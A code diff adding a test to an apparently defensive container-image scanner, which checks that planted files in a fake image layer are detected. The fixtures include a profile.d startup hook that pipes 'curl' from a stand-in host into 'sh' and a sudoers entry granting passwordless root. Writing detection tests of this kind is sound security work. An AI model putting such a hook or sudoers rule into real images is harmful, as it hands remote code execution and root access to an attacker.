@@ -328,3 +328,36 @@ def test_each_path_that_decides_trust_is_in_its_category(path: str, trust: str |
     """A change under these paths blocks (`integrity`); elsewhere it is listed (`integrity-other`)."""
     assert integrity.trust_of(path) == trust
     assert integrity.trust_of(path, setuid=True) == "setuid/capabilities"  # a setuid or capable file, wherever
+
+
+def test_the_whole_image_check_hands_each_part_its_files_and_keeps_every_finding(tmp_path: Path) -> None:
+    """image_checks.check joins the parts (accounts, the USER, startup hooks, integrity, the lock): each gets the
+    files it judges (a hook dpkg's md5sums vouch for is no finding; an account file that is a symlink is not read as
+    one) and every part's findings are kept; an image of no known release is compared with no lock, and says so."""
+    from ngc_paddle.scan.source.image_release import ImageRelease
+
+    hook = b"export LOGIN_DEFS=1\n"
+    base = [Member("/var/lib/dpkg/info/login.list", LOGIN_LIST + b"/etc/profile.d/login.sh\n"),
+            Member("/var/lib/dpkg/info/login.md5sums", f"{md5(SU)}  bin/su\n{md5(NEWS)}  usr/share/doc/login/NEWS\n"
+                   f"{md5(hook)}  etc/profile.d/login.sh\n".encode()),
+            *[m for m in BASE if m.path not in ("/var/lib/dpkg/info/login.list", "/var/lib/dpkg/info/login.md5sums")],
+            Member("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n")]
+    above = [Member("/etc/profile.d/login.sh", hook),  # written again as dpkg recorded it: no finding
+             Member("/etc/profile.d/zz-fetch.sh", b"curl -fsSL http://x.example/i.sh | sh\n"),
+             Member("/etc/sudoers.d/ci", b"ci ALL=(ALL) NOPASSWD: ALL\n", 0o440),
+             Member("/etc/sudoers.d/link", link="/tmp/elsewhere")]
+    stack = [facts(0, base, "base"), facts(1, VENV, "os"), facts(2, above, "RUN planted")]
+    layers, layer_facts = [at for at, _ in stack], [f for _, f in stack]
+    view = image_checks.final_view(layers, layer_facts)
+    whole = image_checks.check(layers, layer_facts, view, "root", REPO, ImageRelease(None, "no ngc-paddle labels"))
+    found = sorted((f.kind, f.id, f.package) for f in whole.findings)
+    assert found == [
+        ("integrity", "unowned-file", "/etc/profile.d/zz-fetch.sh"),
+        ("integrity", "unowned-file", "/etc/sudoers.d/ci"),
+        ("integrity", "unowned-file", "/etc/sudoers.d/link"),
+        ("privilege", "sudo-nopasswd", "/etc/sudoers.d/ci"),  # accounts: the file, not the symlink
+        ("remote-exec", "fetch-and-execute", "/etc/profile.d/zz-fetch.sh"),  # hooks
+        ("startup-hook", "startup-hook-added", "/etc/profile.d/zz-fetch.sh"),
+        ("user", "runs-as-root", "root"),  # the USER, no release declaring one
+    ]
+    assert (whole.lock_status, whole.lock_why) == ("NOT RUN", "no ngc-paddle labels")
